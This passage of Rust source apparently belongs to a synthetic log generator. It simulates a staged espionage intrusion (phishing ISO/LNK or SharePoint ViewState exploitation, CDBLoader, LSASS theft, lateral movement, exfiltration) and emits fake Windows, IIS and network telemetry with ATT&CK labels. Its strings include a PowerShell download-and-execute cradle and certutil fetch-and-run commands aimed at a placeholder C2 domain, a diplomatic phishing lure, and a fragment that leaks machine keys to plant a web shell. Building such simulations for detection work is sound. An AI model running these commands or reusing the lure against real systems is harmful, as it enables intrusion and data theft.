//! The Ink Dragon intrusion, following the TTP file: initial access (spear-phishing ISO/LNK or
//! IIS ViewState exploitation, by seed), CDBLoader, persistence, discovery, LSASS theft,
//! lateral movement, the IIS relay, HTTPS and Graph-drafts C2, staging on the DC and
//! exfiltration.
//!
//! The plan (hosts, accounts, names, times) is drawn from the seed alone, and every attack
//! generator has its own stream, so the attack is identical at every background scale.

use crate::background::task_xml;
use crate::engine::{Body, Cx, FileKey, Gen};
use crate::iis;
use crate::m365;
use crate::mail::{fake_iso, Attachment, Message};
use crate::proc::{HostState, Proc, Who};
use crate::rng::Rng;
use crate::time::{self, DAY, HOUR, MIN, SEC};
use crate::win::{self, hashes, meta, Logon, Meta};
use crate::world::{World, DNS_DOMAIN, GRAPH, LOGIN, NETBIOS};
use crate::zeek::{self, Http, Tls};

/// How the intruder gets in.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Entry {
    Phishing,
    Iis,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Kind {
    Delivery,
    Exploit,
    Exec,
    Download,
    Cdb,
    GraphC2,
    Task,
    Service,
    HttpsC2,
    Firewall,
    Discovery,
    Cred,
    Rdp,
    Smb,
    WinRm,
    Relay,
    Stage,
    Exfil,
}

/// One step of the ground truth.
#[derive(Clone, Debug)]
pub struct Step {
    pub kind: Kind,
    pub name: String,
    pub time: i64,
    pub hosts: Vec<String>,
    pub accounts: Vec<String>,
    pub attack: Vec<&'static str>,
}

const CDB_SHA256: &str = "CFFCA467B6FF4DEE8391C68650A53F4F3828A0B5A31A9AA501D2272B683205F9";
const PATHLOADER_SHA256: &str = "08331F33D196CED23BB568689C950B39FF7734B7461D9501C404E2B1DC298CC1";
const PATHLOADER2_SHA256: &str = "9A11D6FCF76583F7F70FF55297FB550FED774B61F35EE2EDD95CF6F959853BCF";
const UA_CHROME40: &str = "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/40.0.2214.85 Safari/537.36";
const PS: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const CDB_PATH: &str = "C:\\ProgramData\\fontdrvhost.exe";
const CDB_CMD: &str = "C:\\ProgramData\\fontdrvhost.exe -cf C:\\ProgramData\\config.ini -o C:\\ProgramData\\fontdrvhost.exe";
const TASK: &str = "\\Microsoft\\Windows\\AppID\\EPolicyManager";
const RULE: &str = "Microsoft MsMpEng";

fn no_meta() -> Meta<'static> {
    Meta {
        version: "-",
        description: "-",
        product: "-",
        company: "-",
        original: "-",
    }
}

fn imphash(r: &Rng) -> String {
    r.hex_upper(32)
}

/// Everything the attack needs, fixed before the run starts.
pub struct Plan {
    pub entry: Entry,
    pub victim_user: usize,
    /// The first compromised host (victim workstation, or the web server).
    pub h0: usize,
    /// The internal host that talks to the IIS relay.
    pub peer: usize,
    pub winrm_target: usize,
    /// The IT admin whose privileged account is stolen.
    pub admin: usize,
    pub steps: Vec<Step>,
    t: Times,
    shell_who: Who,
    /// Shell process that runs the intruder's first commands (powershell).
    ps: Proc,
    cdb: Proc,
    paint: Proc,
    svc_h0: Proc,
    svc_dc: Proc,
    svc_fs: Proc,
    svc_name: String,
    svc_exe_h0: String,
    svc_exe_dc: String,
    svc_exe_fs: String,
    iso_name: String,
    lnk_name: String,
    decoy: String,
    subject: String,
    shell_aspx: String,
    relay_dll: String,
    session: String,
    c2_path: String,
    archive_pw: String,
    beacon_period: i64,
    beacon_jitter: f64,
}

#[derive(Clone, Copy, Debug)]
struct Times {
    mail: i64,
    exploit: i64,
    exec: i64,
    dl: i64,
    cdb: i64,
    task: i64,
    svc: i64,
    fw: i64,
    disc: i64,
    cred: i64,
    rdp: i64,
    smb_fs: i64,
    smb_dc: i64,
    winrm: i64,
    relay: i64,
    stage: i64,
    exfil: i64,
}

/// The workstation whose user receives the lure (also the exported mailbox).
pub fn victim_workstation(w: &World, seed: u64) -> usize {
    let r = Rng::derive(seed, "victim");
    *r.pick(&w.workstations)
}

fn upn_like(w: &World, sam: &str) -> String {
    let _ = w;
    format!("{NETBIOS}\\{sam}")
}

impl Plan {
    pub fn new(
        w: &World,
        hs: &[HostState],
        seed: u64,
        beacon_period: u32,
        beacon_jitter: f64,
    ) -> Plan {
        let r = Rng::derive(seed, "attack/plan");
        let entry = if r.chance(0.5) {
            Entry::Phishing
        } else {
            Entry::Iis
        };
        let victim_ws = victim_workstation(w, seed);
        let victim_user = w.hosts[victim_ws].user.unwrap_or(0);
        let h0 = if entry == Entry::Phishing {
            victim_ws
        } else {
            w.web
        };
        let peer = if entry == Entry::Phishing {
            victim_ws
        } else {
            w.fs
        };
        let winrm_target = if entry == Entry::Phishing {
            w.web
        } else {
            w.fs
        };
        let admin = *r.pick(&w.admins);

        // Times.
        let s = w.start;
        let end = w.end;
        let days = i64::from(w.days);
        let mail = s + r.range(90 * MIN, 150 * MIN);
        let exploit = s + r.range(2 * HOUR, 5 * HOUR);
        let open = (mail + r.range(10 * MIN, 45 * MIN)).max(w.hosts[victim_ws].logon_at + 10 * MIN);
        let exec = if entry == Entry::Phishing {
            open
        } else {
            exploit + r.range(4 * MIN, 12 * MIN)
        };
        let dl = exec + r.range(2 * MIN, 4 * MIN);
        let cdb = dl + r.range(MIN, 3 * MIN);
        let task = cdb + r.range(4 * MIN, 10 * MIN);
        let svc = task + r.range(2 * MIN, 6 * MIN);
        let fw = svc + r.range(MIN, 4 * MIN);
        let disc = fw + r.range(15 * MIN, 40 * MIN);
        let cred = disc + r.range(20 * MIN, 50 * MIN);
        let rdp = if days >= 2 {
            s + DAY + r.range(2 * HOUR, 4 * HOUR)
        } else {
            cred + r.range(60 * MIN, 120 * MIN)
        };
        let smb_fs = rdp + r.range(20 * MIN, 40 * MIN);
        let smb_dc = smb_fs + r.range(15 * MIN, 45 * MIN);
        let winrm = smb_dc + r.range(10 * MIN, 30 * MIN);
        let relay = winrm + r.range(10 * MIN, 30 * MIN);
        let stage = if days >= 3 {
            s + (days - 1) * DAY + r.range(6 * HOUR, 8 * HOUR)
        } else if days == 2 {
            relay + r.range(2 * HOUR, 3 * HOUR)
        } else {
            relay + r.range(90 * MIN, 150 * MIN)
        };
        let exfil = (stage + r.range(40 * MIN, 90 * MIN)).min(end - 40 * MIN);
        let t = Times {
            mail,
            exploit,
            exec,
            dl,
            cdb,
            task,
            svc,
            fw,
            disc,
            cred,
            rdp,
            smb_fs,
            smb_dc,
            winrm,
            relay,
            stage,
            exfil,
        };

        // Identities and processes.
        let h0s = &hs[h0];
        let shell_who = match entry {
            Entry::Phishing => {
                let mut u = h0s.user.clone().expect("workstation has a user");
                u.integrity = "High";
                u
            }
            Entry::Iis => h0s.w3wp_who.clone().expect("web server runs w3wp"),
        };
        let host0 = &w.hosts[h0];
        let ps_cmd = match entry {
            Entry::Phishing => {
                "powershell.exe  -nop -w hidden -ep bypass -File E:\\~data\\update.ps1".to_string()
            }
            Entry::Iis => format!(
                "powershell.exe -nop -w hidden -ep bypass -enc {}",
                enc_b64(
                    "$wc=New-Object Net.WebClient;iex $wc.DownloadString('https://".to_string()
                        + &w.adv.c2_domain
                        + "/api/v2/u')"
                )
            ),
        };
        let ps = Proc::new(
            host0,
            &r,
            exec + 3 * SEC,
            PS,
            &ps_cmd,
            if entry == Entry::Phishing {
                "E:\\"
            } else {
                "C:\\Windows\\system32\\"
            },
            &shell_who,
        );
        let cdb_p = Proc::new(
            host0,
            &r,
            cdb,
            CDB_PATH,
            CDB_CMD,
            "C:\\ProgramData\\",
            &shell_who,
        );
        let paint = Proc::new(
            host0,
            &r,
            cdb + 2 * SEC,
            "C:\\Windows\\System32\\mspaint.exe",
            "\"C:\\Windows\\system32\\mspaint.exe\"",
            "C:\\ProgramData\\",
            &shell_who,
        );
        let svc_name = "WindowsTempUpdate".to_string();
        let svc_exe_h0 = format!("C:\\Windows\\{}.exe", r.lower(6));
        let svc_exe_dc = format!("C:\\Windows\\{}.exe", r.lower(6));
        let svc_exe_fs = format!("C:\\Windows\\{}.exe", r.lower(6));
        let svc_h0 = Proc::new(
            host0,
            &r,
            svc + 20 * SEC,
            &svc_exe_h0,
            &svc_exe_h0,
            "C:\\Windows\\system32\\",
            &hs[h0].system,
        );
        let svc_dc = Proc::new(
            &w.hosts[w.dc],
            &r,
            smb_dc + 8 * SEC,
            &svc_exe_dc,
            &svc_exe_dc,
            "C:\\Windows\\system32\\",
            &hs[w.dc].system,
        );
        let svc_fs = Proc::new(
            &w.hosts[w.fs],
            &r,
            smb_fs + 8 * SEC,
            &svc_exe_fs,
            &svc_exe_fs,
            "C:\\Windows\\system32\\",
            &hs[w.fs].system,
        );

        let lures = [
            (
                "Invitation: Regional Security Cooperation Forum - Ministerial Session",
                "Invitation_Ministerial_Session",
                "Programme_and_Logistics",
            ),
            (
                "Note Verbale: Updated accreditation procedure for delegations",
                "Note_Verbale_Accreditation",
                "Accreditation_Form",
            ),
            (
                "Request for comments: draft joint communique (restricted)",
                "Draft_Joint_Communique",
                "Comments_Template",
            ),
        ];
        let (subject, iso, lnk) = *r.pick(&lures);
        let adm = &w.users[admin];
        let admin_acct = upn_like(w, adm.admin.as_deref().unwrap_or(&adm.sam));
        let user_acct = upn_like(w, &w.users[victim_user].sam);
        let foothold_acct = if entry == Entry::Phishing {
            user_acct.clone()
        } else {
            upn_like(w, &w.sp_service)
        };
        let system = "NT AUTHORITY\\SYSTEM".to_string();
        let name = |h: usize| w.hosts[h].name.clone();

        let mut steps = vec![Step {
            kind: Kind::Delivery,
            name: "Spear-phishing e-mail with ISO/LNK attachment delivered".into(),
            time: mail,
            hosts: vec![name(victim_ws)],
            accounts: vec![w.users[victim_user].email.clone()],
            attack: vec!["T1566.001"],
        }];
        if entry == Entry::Iis {
            steps.push(Step {
                kind: Kind::Exploit,
                name:
                    "SharePoint ToolShell / ViewState deserialization exploited, web shell dropped"
                        .into(),
                time: exploit,
                hosts: vec![name(w.web)],
                accounts: vec![foothold_acct.clone()],
                attack: vec!["T1190", "T1505.003"],
            });
        }
        let exec_name = match entry {
            Entry::Phishing => "User opens the ISO and its LNK: cmd.exe and hidden PowerShell",
            Entry::Iis => "w3wp.exe spawns cmd.exe and PowerShell through the web shell",
        };
        let exec_ids = match entry {
            Entry::Phishing => vec!["T1204.002", "T1059.003", "T1059.001", "T1016.001"],
            Entry::Iis => vec!["T1505.003", "T1059.003", "T1059.001", "T1016.001"],
        };
        let mut more = vec![
            Step { kind: Kind::Exec, name: exec_name.into(), time: exec, hosts: vec![name(h0)], accounts: vec![foothold_acct.clone()], attack: exec_ids },
            Step { kind: Kind::Download, name: "certutil downloads the loader from the look-alike vendor domain".into(), time: dl, hosts: vec![name(h0)], accounts: vec![foothold_acct.clone()], attack: vec!["T1105", "T1071.001"] },
            Step { kind: Kind::Cdb, name: "CDBLoader: renamed cdb.exe (fontdrvhost.exe -cf) injects into mspaint.exe".into(), time: cdb, hosts: vec![name(h0)], accounts: vec![foothold_acct.clone()], attack: vec!["T1218", "T1036.005", "T1127", "T1055"] },
            Step { kind: Kind::GraphC2, name: "FINALDRAFT C2 over Microsoft Graph: Outlook drafts p_/r_ created and deleted".into(), time: cdb + MIN, hosts: vec![name(h0)], accounts: vec![w.users[victim_user].upn()], attack: vec!["T1102.002", "T1071.001"] },
            Step { kind: Kind::Task, name: "Scheduled task EPolicyManager runs the loader every minute as SYSTEM".into(), time: task, hosts: vec![name(h0)], accounts: vec![foothold_acct.clone(), system.clone()], attack: vec!["T1053.005"] },
            Step { kind: Kind::Service, name: "Service WindowsTempUpdate installed: C:\\Windows\\<6 letters>.exe".into(), time: svc, hosts: vec![name(h0)], accounts: vec![foothold_acct.clone(), system.clone()], attack: vec!["T1543.003", "T1569.002"] },
            Step { kind: Kind::HttpsC2, name: "HTTPS beacons to the look-alike domain".into(), time: svc + 30 * SEC, hosts: vec![name(h0), name(w.dc)], accounts: vec![system.clone()], attack: vec!["T1071.001", "T1573"] },
            Step { kind: Kind::Firewall, name: "Firewall rule \"Microsoft MsMpEng\" added with netsh".into(), time: fw, hosts: vec![name(h0)], accounts: vec![foothold_acct.clone()], attack: vec!["T1562.004"] },
            Step { kind: Kind::Discovery, name: "Discovery burst from one shell: whoami, net group, nltest, ipconfig, systeminfo, tasklist, quser".into(), time: disc, hosts: vec![name(h0)], accounts: vec![foothold_acct.clone()], attack: vec!["T1033", "T1087.002", "T1069.002", "T1016", "T1082", "T1057", "T1012"] },
            Step { kind: Kind::Cred, name: "LSASS credential theft: comsvcs.dll MiniDump and an unsigned security package in lsass".into(), time: cred, hosts: vec![name(h0)], accounts: vec![foothold_acct.clone(), admin_acct.clone()], attack: vec!["T1003.001", "T1547.005"] },
            Step { kind: Kind::Rdp, name: format!("Lateral movement over RDP to {}", name(w.fs)), time: rdp, hosts: vec![name(h0), name(w.fs)], accounts: vec![admin_acct.clone()], attack: vec!["T1021.001", "T1078.002", "T1563.002"] },
            Step { kind: Kind::Smb, name: format!("Lateral movement over SMB: ADMIN$ drop and service creation on {} and {}", name(w.fs), name(w.dc)), time: smb_fs, hosts: vec![name(h0), name(w.fs), name(w.dc)], accounts: vec![admin_acct.clone(), system.clone()], attack: vec!["T1021.002", "T1570", "T1543.003", "T1569.002", "T1550.002"] },
            Step { kind: Kind::WinRm, name: format!("Remote commands over WinRM on {}", name(winrm_target)), time: winrm, hosts: vec![name(h0), name(winrm_target)], accounts: vec![admin_acct.clone()], attack: vec!["T1021.006"] },
            Step { kind: Kind::Relay, name: format!("ShadowPad-style IIS listener relay on {}", name(w.web)), time: relay, hosts: vec![name(w.web), name(peer)], accounts: vec![admin_acct.clone(), upn_like(w, &w.sp_service)], attack: vec!["T1505.004", "T1090.001", "T1572"] },
            Step { kind: Kind::Stage, name: format!("Staging on {}: diskshadow, ntds.dit and SYSTEM copy, password-protected 7za archive", name(w.dc)), time: stage, hosts: vec![name(w.dc), name(h0)], accounts: vec![system.clone(), admin_acct.clone()], attack: vec!["T1003.003", "T1006", "T1560.001", "T1039"] },
            Step { kind: Kind::Exfil, name: "Exfiltration: large HTTPS upload to the look-alike domain".into(), time: exfil, hosts: vec![name(h0)], accounts: vec![system.clone()], attack: vec!["T1041"] },
        ];
        steps.append(&mut more);
        steps.sort_by_key(|s| (s.time, s.kind));

        let lnk_name = format!("{lnk}.pdf.lnk");
        Plan {
            entry,
            victim_user,
            h0,
            peer,
            winrm_target,
            admin,
            steps,
            t,
            shell_who,
            ps,
            cdb: cdb_p,
            paint,
            svc_h0,
            svc_dc,
            svc_fs,
            svc_name,
            svc_exe_h0,
            svc_exe_dc,
            svc_exe_fs,
            iso_name: format!("{iso}.iso"),
            lnk_name,
            decoy: format!("{lnk}.pdf"),
            subject: subject.to_string(),
            shell_aspx: format!(
                "{}.aspx",
                r.pick(&["spinstall0", "spinstall", "info3", "ghostfile93"])
            ),
            relay_dll: format!(
                "C:\\ProgramData\\Microsoft\\IIS\\{}.dll",
                r.pick(&["iiscore64", "HttpModuleCore", "w3logsvc"])
            ),
            session: format!("{}", r.range(1_000_000, 9_999_999)),
            c2_path: format!(
                "/{}/{}",
                r.pick(&["assets", "static", "cdn", "update"]),
                r.base62(10)
            ),
            archive_pw: r.base62(12),
            beacon_period: i64::from(beacon_period.max(1)) * SEC,
            beacon_jitter: beacon_jitter.clamp(0.0, 0.95),
        }
    }

    /// The 1-based step number of `kind` (0 when the step is not part of this plan).
    pub fn step(&self, kind: Kind) -> u16 {
        self.steps
            .iter()
            .position(|s| s.kind == kind)
            .map(|i| i as u16 + 1)
            .unwrap_or(0)
    }

    pub fn entry_name(&self) -> &'static str {
        match self.entry {
            Entry::Phishing => "spear-phishing",
            Entry::Iis => "iis-exploitation",
        }
    }

    /// The generators that write the attack.
    pub fn generators<'p>(&'p self, seed: u64) -> Vec<Box<dyn Gen + 'p>> {
        let rng = |l: &str| Rng::derive(seed, l);
        let mut g: Vec<Box<dyn Gen + 'p>> = vec![Box::new(Script {
            p: self,
            r: rng("attack/script"),
            i: 0,
            actions: self.actions(),
        })];
        g.push(Box::new(TaskRuns {
            p: self,
            r: rng("attack/taskruns"),
            next: self.t.task + MIN + 7 * SEC,
        }));
        g.push(Box::new(Beacon {
            p: self,
            r: rng("attack/beacon/h0"),
            h: self.h0,
            proc: self.svc_h0.clone(),
            next: self.svc_h0.started + 25 * SEC,
            n: 0,
        }));
        g.push(Box::new(Beacon {
            p: self,
            r: rng("attack/beacon/dc"),
            h: usize::MAX,
            proc: self.svc_dc.clone(),
            next: self.svc_dc.started + 25 * SEC,
            n: 0,
        }));
        g.push(Box::new(GraphC2 {
            p: self,
            r: rng("attack/graph"),
            next: self.paint.started + MIN,
            n: 0,
            pending_r: false,
        }));
        g.push(Box::new(Relay {
            p: self,
            r: rng("attack/relay"),
            next: self.t.relay + 5 * MIN,
            n: 0,
        }));
        g
    }

    fn actions(&self) -> Vec<(i64, Act)> {
        let t = &self.t;
        let mut v = vec![(t.mail, Act::Deliver)];
        match self.entry {
            Entry::Phishing => v.push((t.exec, Act::OpenLure)),
            Entry::Iis => {
                v.push((t.exploit, Act::Exploit));
                v.push((t.exec, Act::WebShellExec));
            }
        }
        v.extend([
            (t.dl, Act::Download),
            (t.cdb, Act::Cdb),
            (t.task, Act::Task),
            (t.svc, Act::Service),
            (t.fw, Act::Firewall),
            (t.disc, Act::Discovery),
            (t.cred, Act::Cred),
            (t.rdp, Act::Rdp),
            (t.smb_fs, Act::SmbFs),
            (t.smb_dc, Act::SmbDc),
            (t.winrm, Act::WinRm),
            (t.relay, Act::Relay),
            (t.stage, Act::Stage),
            (t.exfil, Act::Exfil),
        ]);
        v.sort_by_key(|a| a.0);
        v
    }
}

/// PowerShell's -EncodedCommand: base64 of UTF-16LE.
fn enc_b64(s: String) -> String {
    let bytes: Vec<u8> = s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    crate::mail::base64(&bytes).replace("\r\n", "")
}

#[derive(Clone, Copy, Debug)]
enum Act {
    Deliver,
    OpenLure,
    Exploit,
    WebShellExec,
    Download,
    Cdb,
    Task,
    Service,
    Firewall,
    Discovery,
    Cred,
    Rdp,
    SmbFs,
    SmbDc,
    WinRm,
    Relay,
    Stage,
    Exfil,
}

struct Script<'p> {
    p: &'p Plan,
    r: Rng,
    i: usize,
    actions: Vec<(i64, Act)>,
}

impl Gen for Script<'_> {
    fn fire(&mut self, now: i64, cx: &mut Cx) -> Option<i64> {
        if self.i == 0 && now < self.actions[0].0 {
            return Some(self.actions[0].0);
        }
        let (t, act) = self.actions[self.i];
        debug_assert_eq!(t, now);
        let p = self.p;
        let r = &mut self.r;
        match act {
            Act::Deliver => deliver(p, cx, r, t),
            Act::OpenLure => open_lure(p, cx, r, t),
            Act::Exploit => exploit(p, cx, r, t),
            Act::WebShellExec => webshell_exec(p, cx, r, t),
            Act::Download => download(p, cx, r, t),
            Act::Cdb => cdb(p, cx, r, t),
            Act::Task => task(p, cx, r, t),
            Act::Service => service(p, cx, r, t),
            Act::Firewall => firewall(p, cx, r, t),
            Act::Discovery => discovery(p, cx, r, t),
            Act::Cred => cred(p, cx, r, t),
            Act::Rdp => rdp(p, cx, r, t),
            Act::SmbFs => smb(p, cx, r, t, cx.w.fs),
            Act::SmbDc => smb(p, cx, r, t, cx.w.dc),
            Act::WinRm => winrm(p, cx, r, t),
            Act::Relay => relay_setup(p, cx, r, t),
            Act::Stage => stage(p, cx, r, t),
            Act::Exfil => exfil(p, cx, r, t),
        }
        self.i += 1;
        self.actions.get(self.i).map(|a| a.0)
    }
}

fn ms(r: &Rng, lo: i64, hi: i64) -> i64 {
    r.range(lo * 1000, hi * 1000)
}

/// Sysmon 1 + 4688 for a planned process.
fn announce(
    cx: &mut Cx,
    r: &Rng,
    h: usize,
    step: u16,
    p: &Proc,
    parent: &Proc,
    m: &Meta,
    hashes: &str,
) {
    win::sysmon1(cx, h, p.started, step, p, parent, m, hashes);
    win::sec4688(cx, h, p.started + r.range(0, 3000), step, p, parent);
}

fn c2_lookup(
    p: &Plan,
    cx: &mut Cx,
    r: &Rng,
    t: i64,
    step: u16,
    h: usize,
    proc: &Proc,
    domain: &str,
    ip: &str,
) {
    let w = cx.w;
    let hip = w.hosts[h].ip.clone();
    let dc_ip = w.hosts[w.dc].ip.clone();
    let _ = p;
    win::sysmon22(cx, h, t, step, proc, domain, &[ip]);
    zeek::dns(cx, r, t, step, &hip, &dc_ip, domain, "A", &[ip], 600);
}

// --- 1. delivery ------------------------------------------------------------------------

fn deliver(p: &Plan, cx: &mut Cx, r: &Rng, t: i64) {
    let w = cx.w;
    let step = p.step(Kind::Delivery);
    let u = &w.users[p.victim_user];
    let a = &w.adv;
    let mx = format!("mx01.{DNS_DOMAIN}");
    let exch = format!("EXCH01.{DNS_DOMAIN}");
    let first = u.display.split(' ').next().unwrap_or("");
    let text = format!(
        "Dear {first},\n\nOn behalf of the Secretariat, we have the honour to invite your delegation to the ministerial session referred to in the subject.\n\nThe programme, the logistics note and the accreditation form are enclosed as a disk image for security reasons. Please open the enclosed file and return the completed form by Friday.\n\nPlease address any questions to the Secretariat by replying to this message.\n\nWith the assurances of our highest consideration,\n\n{}\n",
        a.lure_display
    );
    let html = format!(
        "<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=us-ascii\"></head><body><p>Dear {first},</p><p>On behalf of the Secretariat, we have the honour to invite your delegation to the ministerial session referred to in the subject.</p><p>The programme, the logistics note and the accreditation form are enclosed as a disk image for security reasons. Please open the enclosed file and return the completed form by <b>Friday</b>.</p><p>With the assurances of our highest consideration,<br>{}</p></body></html>",
        a.lure_display
    );
    let msg = Message {
        received: vec![
            format!("from {mx} ({}) by {exch} ({}) with Microsoft SMTP Server (version=TLS1_2,\r\n\tcipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.2.1544.14;\r\n\t{}", w.mx_ip, w.mx_ip, time::rfc2822(t)),
            format!("from {} ({} [{}])\r\n\tby {mx} (Postfix) with ESMTPS id {}\r\n\tfor <{}>; {}", a.lure_mx, a.lure_mx, a.lure_ip, r.hex_upper(10), u.email, time::rfc2822(t - 2 * SEC)),
        ],
        auth_results: Some(format!(
            "{mx};\r\n\tspf=softfail (domain of transitioning {} does not designate {} as permitted sender) smtp.mailfrom={};\r\n\tdkim=none (message not signed) header.d=none;\r\n\tdmarc=fail (p=none dis=none) header.from={}",
            a.lure_sender, a.lure_ip, a.lure_domain, a.lure_domain
        )),
        from: format!("\"{}\" <{}>", a.lure_display, a.lure_sender),
        to: format!("{} <{}>", u.display, u.email),
        reply_to: Some(a.reply_to.clone()),
        subject: p.subject.clone(),
        date: t - r.range(20 * SEC, 90 * SEC),
        message_id: format!("<{}.{}@{}>", r.hex(16), r.digits(10), a.lure_mx),
        extra: vec![("X-Mailer".into(), "Microsoft Outlook 16.0".into()), ("Importance".into(), "high".into())],
        text,
        html: Some(html),
        attachment: Some(Attachment {
            filename: p.iso_name.clone(),
            mime: "application/octet-stream".into(),
            bytes: fake_iso(&p.iso_name.replace(".iso", "").chars().take(16).collect::<String>(), &p.lnk_name, &p.decoy),
        }),
    };
    let text = msg.render(r);
    cx.emit(t, FileKey::Mbox, step, Body::Mail(text.clone()));
    cx.emit(t, FileKey::Eml(t, 0), step, Body::Mail(text));
}

// --- 2. execution -----------------------------------------------------------------------

fn connectivity_script(p: &Plan, w: &World) -> String {
    format!(
        "$ErrorActionPreference='SilentlyContinue'\r\ntry {{ Invoke-WebRequest -Uri https://login.microsoftonline.com -UseBasicParsing | Out-Null }} catch {{}}\r\nping -n 1 graph.microsoft.com | Out-Null\r\n$d='C:\\ProgramData'\r\ncertutil -urlcache -split -f https://{}{}/fontdrvhost.exe $d\\fontdrvhost.exe\r\ncertutil -urlcache -split -f https://{}{}/config.ini $d\\config.ini\r\nStart-Process -WindowStyle Hidden -FilePath $d\\fontdrvhost.exe -ArgumentList '-cf',\"$d\\config.ini\",'-o',\"$d\\fontdrvhost.exe\"",
        w.adv.c2_domain, p.c2_path, w.adv.c2_domain, p.c2_path
    )
}

fn ps_prelude(p: &Plan, cx: &mut Cx, r: &Rng, step: u16, t: i64) {
    let h = p.h0;
    let w = cx.w;
    let hip = w.hosts[h].ip.clone();
    let text = connectivity_script(p, w);
    win::ps4104(
        cx,
        r,
        h,
        t,
        step,
        &p.ps,
        &text,
        if p.entry == Entry::Phishing {
            "E:\\~data\\update.ps1"
        } else {
            ""
        },
    );
    // Connectivity checks.
    let t1 = t + ms(r, 400, 1500);
    c2_lookup(p, cx, r, t1, step, h, &p.ps, LOGIN.name, LOGIN.ip);
    let sport = zeek::ephemeral(r);
    win::sysmon3(
        cx,
        h,
        t1 + 60_000,
        step,
        &p.ps,
        &hip,
        sport,
        LOGIN.ip,
        "",
        443,
        true,
    );
    zeek::https(
        cx,
        r,
        t1 + 60_000,
        step,
        &hip,
        &LOGIN,
        Tls::Schannel,
        500_000,
        1_900,
        41_000,
    );
    let ping = win::spawn(
        cx,
        r,
        h,
        t1 + ms(r, 1500, 3000),
        step,
        &p.ps,
        &p.shell_who,
        "C:\\Windows\\System32\\PING.EXE",
        "\"C:\\Windows\\system32\\PING.EXE\" -n 1 graph.microsoft.com",
    );
    win::sysmon22(
        cx,
        h,
        ping.started + 30_000,
        step,
        &ping,
        GRAPH.name,
        &[GRAPH.ip],
    );
}

fn open_lure(p: &Plan, cx: &mut Cx, r: &Rng, t: i64) {
    let step = p.step(Kind::Exec);
    let h = p.h0;
    let hs = &cx.hs[h];
    let (outlook, explorer) = (
        hs.outlook.clone().expect("outlook"),
        hs.explorer.clone().expect("explorer"),
    );
    let user = hs.user.clone().expect("user");
    let home = format!("C:\\Users\\{}", user.name);
    // The user saves and opens the attachment; Windows mounts the ISO as E:.
    win::sysmon11(
        cx,
        h,
        t,
        step,
        &outlook,
        &format!(
            "{home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{}\\{}",
            r.hex_upper(8),
            p.iso_name
        ),
    );
    let tl = t + ms(r, 8, 25);
    let cmdline = format!("\"C:\\Windows\\System32\\cmd.exe\" /q /c start \"\" \"E:\\{}\" & powershell.exe  -nop -w hidden -ep bypass -File E:\\~data\\update.ps1", p.decoy);
    let mut cmd = Proc::new(&cx.w.hosts[h], r, tl, CMD, &cmdline, "E:\\", &user);
    cmd.cwd = "E:\\".into();
    announce(cx, r, h, step, &cmd, &explorer, &meta(CMD), &hashes(CMD));
    let conhost = win::spawn(
        cx,
        r,
        h,
        tl + 20_000,
        step,
        &cmd,
        &user,
        "C:\\Windows\\System32\\conhost.exe",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
    );
    let _ = conhost;
    win::spawn(
        cx,
        r,
        h,
        tl + 300_000,
        step,
        &cmd,
        &user,
        "C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\AcroRd32.exe",
        &format!(
            "\"C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\AcroRd32.exe\" \"E:\\{}\"",
            p.decoy
        ),
    );
    // PowerShell (elevated through the user's local admin rights).
    let mut ps = p.ps.clone();
    ps.started = ps.started.max(tl + 600_000);
    announce(cx, r, h, step, &ps, &cmd, &meta(PS), &hashes(PS));
    ps_prelude(p, cx, r, step, ps.started + 900_000);
}

const UA_FF: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0";

fn iis_req(
    cx: &mut Cx,
    r: &Rng,
    t: i64,
    step: u16,
    client: &str,
    method: &str,
    stem: &str,
    query: &str,
    referer: &str,
    status: u16,
) {
    let taken = r.range(40, 1800) as u32;
    iis::request(
        cx,
        t,
        step,
        &iis::Req {
            method,
            stem,
            query,
            port: 443,
            user: "",
            client,
            user_agent: UA_FF,
            referer,
            status,
            substatus: 0,
            win32: 0,
            taken_ms: taken,
        },
    );
    let web_ip = cx.w.hosts[cx.w.web].ip.clone();
    zeek::https_to(
        cx,
        r,
        t,
        step,
        client,
        &web_ip,
        &format!("www.{DNS_DOMAIN}"),
        443,
        Tls::Browser,
        i64::from(taken) * 1000 + 200_000,
        if method == "POST" {
            r.range(4_000, 9_000) as u64
        } else {
            900
        },
        r.range(2_000, 30_000) as u64,
    );
}

fn viewstate(r: &Rng, n: usize) -> String {
    let raw: Vec<u8> = (0..n).map(|_| r.below(256) as u8).collect();
    let b = crate::mail::base64(&raw).replace("\r\n", "");
    format!(
        "%2FwEy{}",
        b.replace('+', "%2B")
            .replace('/', "%2F")
            .replace('=', "%3D")
    )
}

fn exploit(p: &Plan, cx: &mut Cx, r: &Rng, t: i64) {
    let step = p.step(Kind::Exploit);
    let w = cx.w;
    let op = w.adv.operator_ip.clone();
    let web = w.web;
    let mut tt = t;
    iis_req(
        cx,
        r,
        tt,
        step,
        &op,
        "GET",
        "/_layouts/15/start.aspx",
        "",
        "",
        302,
    );
    tt += ms(r, 2_000, 6_000);
    iis_req(
        cx,
        r,
        tt,
        step,
        &op,
        "POST",
        "/_layouts/15/ToolPane.aspx",
        "DisplayMode=Edit&a=/ToolPane.aspx",
        "/_layouts/SignOut.aspx",
        200,
    );
    let w3wp = cx.hs[web].w3wp.clone().expect("w3wp");
    let pool = cx.hs[web].w3wp_who.clone().expect("pool");
    // The deserialized payload writes a page that leaks the machine keys.
    let enc = enc_b64(format!("$k=[System.Web.Configuration.MachineKeySection]::GetApplicationConfig();Set-Content -Path 'C:\\Program Files\\Common Files\\Microsoft Shared\\Web Server Extensions\\16\\TEMPLATE\\LAYOUTS\\{}' -Value '<%@ Page Language=\"C#\" %>...'", p.shell_aspx));
    let c = win::spawn(
        cx,
        r,
        web,
